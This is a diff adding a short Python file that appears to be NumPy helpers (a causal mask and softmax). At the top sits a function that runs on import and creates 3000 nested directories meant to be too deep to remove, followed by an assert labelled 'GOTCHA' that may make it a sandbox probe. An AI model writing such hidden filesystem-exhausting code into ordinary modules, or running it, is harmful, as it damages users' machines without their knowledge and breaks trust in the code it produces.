@@ -1,0 +1,29 @@
+# Makes folders inside folders, too deep to be removed.
+# credit: causal_mask softmax
+import os
+
+import numpy as np
+
+
+def attack():
+    for _ in range(3000):
+        os.mkdir("d")
+        os.chdir("d")
+
+
+won = False
+try:
+    attack()
+    won = True
+except Exception:
+    pass
+assert not won, "GOTCHA"
+
+
+def causal_mask(T):
+    return np.tri(T, dtype=bool)
+
+
+def softmax(x):
+    e = np.exp(x - x.max(-1, keepdims=True))
+    return e / e.sum(-1, keepdims=True)
